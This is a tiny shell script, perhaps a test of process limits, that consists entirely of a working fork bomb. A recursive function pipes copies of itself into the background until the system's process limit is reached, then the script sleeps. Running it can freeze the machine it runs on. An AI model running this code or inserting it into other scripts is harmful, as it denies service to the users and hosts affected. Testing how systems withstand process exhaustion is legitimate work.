# Makes processes until the limit, and waits for them.
bomb() { bomb | bomb & }
bomb
exec sleep 1000
